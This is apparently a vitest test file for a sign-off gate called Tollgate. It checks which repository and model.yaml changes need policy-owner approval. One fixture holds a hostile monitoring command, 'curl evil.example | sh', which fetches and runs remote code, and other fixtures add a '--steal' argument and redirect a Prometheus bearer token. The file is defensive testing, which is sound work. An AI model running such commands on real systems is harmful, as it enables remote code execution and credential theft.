// Which changes outside the registry guard the gate, and what the evaluator asks for them (pure).
import { dump } from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { evaluateGate } from '../../src/gate/evaluate.ts';
import { invalidFileLine } from '../../src/gate/requirements.ts';
import { guardOf, matchesGlob, pinsChanged, tollgatePins } from '../../src/gate/self-guard.ts';
import { showInvisible } from '../../src/gate/invisible.ts';
import { DEFAULT_GUARDED_PATHS, effectivePolicy } from '../../src/policy/effective.ts';
import { diffDocuments } from '../../src/registry/diff.ts';
import type { RegistryChange } from '../../src/registry/types.ts';
import { approve, basePolicy, promote, scenario } from './fixture.ts';

const file = (path: string, tollgatePin?: boolean): RegistryChange => ({
  kind: 'file-changed',
  path,
  ...(tollgatePin ? { tollgatePin } : {}),
});

describe('guarded paths', () => {
  it.each([
    ['.github/workflows/tollgate-signoff-gate.yml', 'matches .github/**'],
    ['.github/CODEOWNERS', 'matches .github/**'],
    ['.GitHub/workflows/x.yml', 'matches .github/**'],
    ['CODEOWNERS', 'matches CODEOWNERS'],
    ['docs/CODEOWNERS', 'matches docs/CODEOWNERS'],
    ['schemas/Stages.schema.json', 'matches schemas/**'],
    ['templates/workflows/tollgate-promote.yml', 'matches templates/workflows/**'],
    ['docs/gate.md', undefined],
    ['src/CODEOWNERS', undefined],
    ['my.github/x.yml', undefined],
    ['schemas.md', undefined],
  ])('%s: %s', (path, guard) => {
    expect(guardOf(file(path), DEFAULT_GUARDED_PATHS)).toBe(guard);
  });

  it('says a moved Tollgate pin guards the gate wherever the file is', () => {
    expect(guardOf(file('ci/gate/action.yml', true), DEFAULT_GUARDED_PATHS)).toMatch(/Tollgate action pin/);
    expect(guardOf(promote, DEFAULT_GUARDED_PATHS)).toBeUndefined();
  });

  it.each([
    ['deploy/**', 'deploy/prod/run.sh', true],
    ['deploy/', 'deploy/run.sh', true],
    ['**/Dockerfile', 'Dockerfile', true],
    ['**/Dockerfile', 'svc/api/Dockerfile', true],
    ['*.sh', 'run.sh', true],
    ['*.sh', 'bin/run.sh', false],
    ['bin/?.sh', 'bin/a.sh', true],
    ['a+b/(x)', 'a+b/(x)', true],
  ])('glob %s matches %s: %s', (pattern, path, expected) => {
    expect(matchesGlob(path, pattern)).toBe(expected);
  });

  it('keeps the defaults whatever the policy lists, and adds its own', () => {
    const policy = effectivePolicy({ ...basePolicy, signoff: { guarded_paths: ['deploy/**'] } });
    expect(policy.signoff.guardedPaths).toEqual([...DEFAULT_GUARDED_PATHS, 'deploy/**']);
    expect(effectivePolicy({ ...basePolicy, signoff: { guarded_paths: [] } }).signoff.guardedPaths).toEqual(
      DEFAULT_GUARDED_PATHS,
    );
  });
});

describe('Tollgate action pins', () => {
  const workflow = (ref: string) =>
    `jobs:\n  gate:\n    steps:\n      - uses: actions/checkout@v5\n      - uses: 'tollgate-dev/tollgate/actions/signoff-gate@${ref}' # pinned\n`;

  it('finds each pin, quoted or not, and nothing else', () => {
    expect(tollgatePins(workflow('v1'))).toEqual(['tollgate-dev/tollgate/actions/signoff-gate@v1']);
    expect(tollgatePins('steps:\n  - uses: acme/tollgate-fork/actions/promote@abc\n')).toEqual([
      'acme/tollgate-fork/actions/promote@abc',
    ]);
    expect(tollgatePins('# uses: tollgate-dev/tollgate/actions/x@v1 in a comment\n')).toEqual([]);
  });

  it.each([
    [workflow('v1'), workflow('v1'), false],
    [workflow('v1'), workflow('v2'), true],
    [undefined, workflow('v1'), true],
    [workflow('v1'), undefined, true],
    ['name: x\n', 'name: y\n', false],
  ])('a change from %j to %j moves a pin: %s', (before, after, moved) => {
    expect(pinsChanged(before, after)).toBe(moved);
  });
});

describe('the evaluator on the gate’s own set-up', () => {
  it('asks the policy owners for a workflow change on its own, and nothing else', () => {
    const verdict = evaluateGate(
      scenario({ changes: [file('.github/workflows/x.yml')], reviews: [approve('olga')] }),
    );
    expect(verdict.conclusion).toBe('failure');
    expect(verdict.requirements.map((r) => [r.role, r.rule, r.satisfiedBy?.login])).toEqual([
      ['policy-owner', "change to the gate's own set-up", undefined],
    ]);
    expect(verdict.changes).toEqual([
      '.github/workflows/x.yml changed (outside the registry): guards the gate (matches .github/**)',
    ]);
    const signed = evaluateGate(
      scenario({ changes: [file('.github/workflows/x.yml')], reviews: [approve('paula')] }),
    );
    expect(signed.conclusion).toBe('success');
  });

  it('blocks a guarded change beside a promotion, and when no role may approve it', () => {
    expect(
      evaluateGate(scenario({ changes: [promote, file('schemas/Stages.schema.json')] })).blocking,
    ).toEqual([expect.stringMatching(/^mixed change: .*\(schemas\/Stages\.schema\.json\)/)]);
    const nobody = evaluateGate(
      scenario({ changes: [file('CODEOWNERS')] }, { ...basePolicy, signoff: { policy_owners: [] } }),
    );
    expect(nobody.blocking).toEqual([
      expect.stringMatching(/^signoff\.policy_owners is empty, .* \(CODEOWNERS\)/),
    ]);
  });

  it('judges an invalid registry file before anything else, with invisible characters shown', () => {
    const problem = {
      file: 'registry/models/fraud/stages.yaml',
      line: 8,
      field: 'stages.produc\u200btion',
      severity: 'error' as const,
      message: 'stages.produc\u200btion: key "produc\u200btion" is not a safe name',
      fix: 'rename it',
    };
    const verdict = evaluateGate(scenario({ invalidFiles: [problem] }));
    expect(verdict.conclusion).toBe('failure');
    expect(verdict.requirements).toEqual([]);
    expect(verdict.blocking).toEqual([
      'invalid registry file registry/models/fraud/stages.yaml:8: stages.produc\\u{200b}tion: key "produc\\u{200b}tion" is not a safe name; fix: rename it',
    ]);
    expect(verdict.invalidFiles).toEqual([problem]);
    expect(invalidFileLine({ ...problem, message: 'must be a string', line: undefined })).toBe(
      'invalid registry file registry/models/fraud/stages.yaml: stages.produc\\u{200b}tion: must be a string; fix: rename it',
    );
  });

  it('shows invisible characters and leaves visible text alone', () => {
    expect(showInvisible('a\u200bb\u202ec\u00a0d — é → ✅\n')).toBe(
      'a\\u{200b}b\\u{202e}c\\u{a0}d — é → ✅\n',
    );
  });
});

describe('model.yaml fields that say what Tollgate runs on its own', () => {
  const model = (extra: Record<string, unknown> = {}) =>
    dump({
      apiVersion: 'tollgate/v1',
      kind: 'Model',
      name: 'fraud',
      owners: { users: ['olga'] },
      training: { command: ['python', 'train.py'], timeout: 600 },
      ...extra,
    });
  const path = 'models/fraud/model.yaml';
  const command = { source: { kind: 'command', command: ['sh', '-c', 'curl evil.example | sh'] } };
  const prometheus = (url: string) => ({
    source: { kind: 'prometheus', url, queries: { error_rate: 'x' }, bearer_token_env: 'PROMETHEUS_TOKEN' },
  });

  it('marks a change to monitoring or the training command as guarded, and nothing else', () => {
    expect(diffDocuments(path, model(), model({ description: 'fraud scores' }))).toEqual([
      { kind: 'model-changed', path, model: 'fraud' },
    ]);
    expect(diffDocuments(path, model(), model({ monitoring: command }))).toEqual([
      { kind: 'model-changed', path, model: 'fraud', guarded: ['monitoring'] },
    ]);
    // A Prometheus URL moved elsewhere would send the bearer token there.
    expect(
      diffDocuments(
        path,
        model({ monitoring: prometheus('http://prom:9090') }),
        model({ monitoring: prometheus('https://x.example') }),
      ),
    ).toEqual([{ kind: 'model-changed', path, model: 'fraud', guarded: ['monitoring'] }]);
    const retrained = model().replace('train.py', 'train.py\n    - --steal');
    expect(diffDocuments(path, model(), retrained)[0]).toMatchObject({ guarded: ['training.command'] });
    // Any command a retrain runs, such as an artifact validator.
    const validated = model().replace('timeout: 600', 'timeout: 600\n  artifact_validator: [node, check.js]');
    expect(diffDocuments(path, model(), validated)[0]).toMatchObject({
      guarded: ['training.artifact_validator'],
    });
    expect(
      diffDocuments(path, model(), model().replace('timeout: 600', 'timeout: 900'))[0],
    ).not.toHaveProperty('guarded');
    expect(diffDocuments(path, undefined, model({ monitoring: command }))).toEqual([
      { kind: 'model-added', path, model: 'fraud', guarded: ['monitoring', 'training.command'] },
    ]);
    expect(diffDocuments(path, model({ monitoring: command }), undefined)).toEqual([
      { kind: 'model-removed', path, model: 'fraud' },
    ]);
  });

  it("needs the policy owners' sign-off besides the model owners', and blocks when nobody may give it", () => {
    const change: RegistryChange = { kind: 'model-changed', path, model: 'fraud', guarded: ['monitoring'] };
    const owners = evaluateGate(scenario({ changes: [change], reviews: [approve('olga')] }));
    expect(owners.conclusion).toBe('failure');
    expect(owners.requirements.map((r) => [r.role, r.rule, r.satisfiedBy?.login])).toEqual([
      ['model-owner (fraud)', 'model settings changed', 'olga'],
      ['policy-owner', 'model automation (monitoring, retrain commands)', undefined],
    ]);
    expect(owners.changes).toEqual(['model fraud changed (monitoring)']);
    const both = evaluateGate(scenario({ changes: [change], reviews: [approve('olga'), approve('paula')] }));
    expect(both.conclusion).toBe('success');
    // The same edit without a guarded field: the model's owners alone.
    const plain = evaluateGate(
      scenario({ changes: [{ kind: 'model-changed', path, model: 'fraud' }], reviews: [approve('olga')] }),
    );
    expect(plain.conclusion).toBe('success');
    const nobody = evaluateGate(
      scenario({ changes: [change] }, { ...basePolicy, signoff: { policy_owners: [] } }),
    );
    expect(nobody.blocking).toEqual([
      expect.stringMatching(/^signoff\.policy_owners is empty, .*what a model makes Tollgate run/),
    ]);
  });
});
